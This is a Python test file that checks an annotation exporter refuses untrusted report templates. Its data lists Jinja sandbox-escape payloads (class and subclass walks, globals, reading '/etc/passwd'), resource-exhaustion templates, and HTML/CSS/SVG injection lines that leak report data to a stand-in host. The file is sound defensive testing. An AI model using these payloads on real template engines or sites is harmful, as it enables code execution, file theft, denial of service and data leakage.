"""Templates that came from a stranger: they reach nothing, use up little, and write nothing that
loads or runs."""

import time

import pytest

from annotations.errors import BadTemplate
from annotations.exporting.layout import Layout
from annotations.exporting.report import Report, build
from annotations.exporting.templates import render
from annotations.sentences import sentence
from resources import catalogue
from tests.made_entries import entry, many

WORDS = catalogue("en")
FIRST = "{% extends 'page.html' %}{% block body %}\n"
LAST = "\n{% endblock %}"

REACHING = {
    "a class": "{{ ''.__class__.__mro__ }}",
    "a class by a filter": "{{ ['x'] | map(attribute='__class__') | first }}",
    "a subclass": "{{ report.__class__.__base__.__subclasses__() }}",
    "globals of a function": "{{ groups.__globals__ }}",
    "the one who gives the values": "{{ groups.__self__ }}",
    "a private field": "{% for h in highlights() %}{{ h._entry.highlight.note }}{% endfor %}",
    "a format string": "{{ '{0.__class__}'.format(report) }}",
    "a message that looks into its values": "{{ words('{x.__class__}', x=report) }}",
    "a format by a filter": "{{ '%s' | format(report) }}",
    "a frame of a generator": "{{ highlights().gi_frame }}",
    "a file": "{% include '/etc/passwd' %}",
    "a file by a name that is made": "{% include 'page' ~ '.html' %}",
    "another template of the program": "{% import 'report.md' as other %}",
    "the environment": "{{ self._TemplateReference__context }}",
    "what is not there": "{{ nowhere.at_all }}",
}
UNESCAPED = {
    "the filter safe": "{{ '<script>1</script>' | safe }}",
    "no escaping": "{% autoescape false %}{{ report.title }}{% endautoescape %}",
    "a text that is unescaped again": "{{ ('&lt;script&gt;' | e).unescape() }}",
    "a filter for attributes": "{{ {'onclick': 'x'} | xmlattr }}",
}
GREEDY = {
    "a long range": "{% for i in range(10 ** 9) %}{% endfor %}",
    "a range beyond all bounds": "{% for i in range(1000000000) %}{% endfor %}",
    "loops within loops": "{% for i in range(99999) %}{% for j in range(99999) %}"
    "{% for k in range(99999) %}{% endfor %}{% endfor %}{% endfor %}",
    "a macro that calls itself twice": "{% macro m(n) %}{{ m(n) }}{{ m(n) }}{% endmacro %}"
    "{{ m(1) }}",
    "macros that call others": "".join(
        f"{{% macro m{n + 1}() %}}{f'{{{{ m{n}() }}}}' * 9}{{% endmacro %}}" for n in range(1, 12)
    ).replace("m1()", "'x'")
    + "{{ m12() }}",
    "a text times a number": "{{ 'x' * 10000000000 }}",
    "a list times a number": "{{ [1] * 10000000000 }}",
    "a number beyond all bounds": "{{ 99999999 * 99999999 * 99999999 }}",
    "a wide number": "{{ '%10000000000d' % 1 }}",
    "a text that doubles": "{% set n = namespace(x='xxxxxxxx') %}{% for i in range(60) %}"
    "{% set n.x = n.x ~ n.x %}{% endfor %}",
    "a list that doubles": "{% set n = namespace(x=[1, 2]) %}{% for i in range(60) %}"
    "{% set n.x = n.x + n.x %}{% endfor %}",
    "a replacement that grows": "{% set n = namespace(x='aaaaaaaa') %}{% for i in range(60) %}"
    "{% set n.x = n.x | replace('a', 'aa') %}{% endfor %}",
    "a set that doubles": "{% set n = namespace(x='aaaaaaaa') %}{% for i in range(60) %}"
    "{% set y %}{{ n.x }}{{ n.x }}{% endset %}{% set n.x = y %}{% endfor %}",
    "much of its own words": "{% set x %}{% for i in range(99999) %}"
    + "x" * 5000
    + "{% endfor %}{% endset %}",
    "lists as texts": "{{ range(99999) | list }}",
    "a join": "{{ range(99999) | map('string') | join('xxxxxxxxxxxxxxxxxxxxxxxx') }}",
    "Lorem ipsum": "{{ lipsum(100000) }}",
    "a width": "{{ 'x'.center(10000000000) }}",
    "a recursive loop": "{% for i in [1] recursive %}{{ loop([1, 1]) }}{% endfor %}",
    "a block that holds itself": "{% block a %}{{ self.a() }}{{ self.a() }}{% endblock %}",
}
LOADING = {
    "a script": "<script>alert(1)</script>",
    "a picture from elsewhere": "<img src='https://x.example/?{{ report.title }}'>",
    "a picture without a scheme": "<img src='//x.example/a.png'>",
    "a picture set": "<img srcset='https://x.example/a.png'>",
    "a drawing as a picture": "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "an event": "<p onclick='alert(1)'>x</p>",
    "an event of a drawing": "<svg onload='alert(1)'></svg>",
    "a frame": "<iframe srcdoc='x'></iframe>",
    "a form": "<form action='https://x.example'><p>x</p></form>",
    "a link that runs": "<a href='javascript:alert(1)'>x</a>",
    "a link in disguise": "<a href=' &#106;avascript:alert(1)'>x</a>",
    "a meta": "<meta http-equiv='refresh' content='0;url=https://x.example'>",
    "a base": "<base href='https://x.example/'>",
    "a style sheet": "<link rel='stylesheet' href='https://x.example/a.css'>",
    "a style that imports": "<style>@import 'https://x.example/a.css';</style>",
    "a style that fetches": "<style>p{background:url(//x.example)}</style>",
    "a style in disguise": "<style>p{background:\\75rl(//x.example)}</style>",
    "a style at an element": "<p style='background:url(//x.example)'>x</p>",
    "an object": "<object data='https://x.example'></object>",
    "a drawing that uses another": "<svg><use href='https://x.example/a.svg#x'/></svg>",
    "a drawing filled from elsewhere": "<svg><rect fill='url(https://x.example/#x)'/></svg>",
    "a foreign object": "<svg><foreignObject><p>x</p></foreignObject></svg>",
    "a processing instruction": "<?xml-stylesheet href='https://x.example'?>",
    "a video": "<video src='https://x.example/a.mp4'></video>",
    "a ping": "<a href='https://x.example' ping='https://y.example'>x</a>",
}


def _report(text: str, highlights: int = 2) -> Report:
    return build(many(highlights), WORDS, layout=Layout(template="asing", text=text))


def _refused(text: str) -> BadTemplate:
    with pytest.raises(BadTemplate) as caught:
        "".join(render(_report(text), WORDS))
    said = sentence(caught.value, WORDS)
    assert said.startswith("The template asing cannot be used: ")
    assert "\n" not in said
    return caught.value


@pytest.mark.parametrize("body", [pytest.param(text, id=name) for name, text in REACHING.items()])
def test_a_template_reaches_nothing_but_the_report(body: str) -> None:
    assert _refused(FIRST + body + LAST).line == 2


@pytest.mark.parametrize("body", [pytest.param(text, id=name) for name, text in UNESCAPED.items()])
def test_escaping_cannot_be_switched_off(body: str) -> None:
    assert _refused(FIRST + body + LAST).line == 2


@pytest.mark.parametrize("body", [pytest.param(text, id=name) for name, text in GREEDY.items()])
def test_a_template_uses_up_little(body: str) -> None:
    start = time.process_time()
    _refused(FIRST + body + LAST)
    assert time.process_time() - start < 15


@pytest.mark.parametrize("body", [pytest.param(text, id=name) for name, text in LOADING.items()])
def test_what_loads_or_runs_is_refused(body: str) -> None:
    _refused(FIRST + body + LAST)


@pytest.mark.parametrize(
    ("text", "line"),
    [
        (FIRST + "<p>x</p>\n{% for h in highlights() %}\n", 3),
        (FIRST + "<p>x</p>\n{{ report.nothing }}" + LAST, 3),
        (FIRST + "<p>x</p>\n\n{{ 1 / 0 }}" + LAST, 4),
        ("just words", 0),
        (FIRST + "{% for x in [1] %}" * 30 + "{% endfor %}" * 30 + LAST, 0),
        (FIRST + "{% if 1 %}" * 120 + "{% endif %}" * 120 + LAST, 0),
        ("{% extends 'report.html' %}", 1),
    ],
)
def test_a_broken_template_is_one_sentence_with_its_line(text: str, line: int) -> None:
    assert _refused(text).line == line


def test_a_comment_or_an_unclosed_element_hides_nothing() -> None:
    text = FIRST + "<!-- <p> --><div><b>tebal<p>x &lt;script&gt;" + LAST
    page = "".join(render(_report(text), WORDS))
    assert "<!--" not in page
    assert page.count("<b>") == page.count("</b>")
    assert "<script" not in page
    assert "&lt;script&gt;" in page


def test_the_policy_comes_first_and_allows_the_pages_own_styles_only() -> None:
    text = "{% extends 'page.html' %}{% block style %}<style>p{color:#123456}</style>{% endblock %}"
    page = "".join(render(_report(text), WORDS))
    policy = page.index("Content-Security-Policy")
    assert policy < page.index("<style>") < page.index("color:#123456")
    assert page.count("sha256-") == 2
    assert "script-src &#x27;none&#x27;" in page or "script-src 'none'" in page
    assert "default-src &#x27;none&#x27;" in page or "default-src 'none'" in page


def test_words_of_a_quote_are_words_in_an_own_template() -> None:
    made = entry(1, "<script>alert('x')</script> <img src=x onerror=alert(1)>")
    text = FIRST + "{% for h in highlights() %}<p>{{ h.quote }}</p>{% endfor %}" + LAST
    page = "".join(render(build([made], WORDS, layout=Layout(template="t", text=text)), WORDS))
    assert "&lt;script&gt;alert('x')&lt;/script&gt; &lt;img src=x" in page
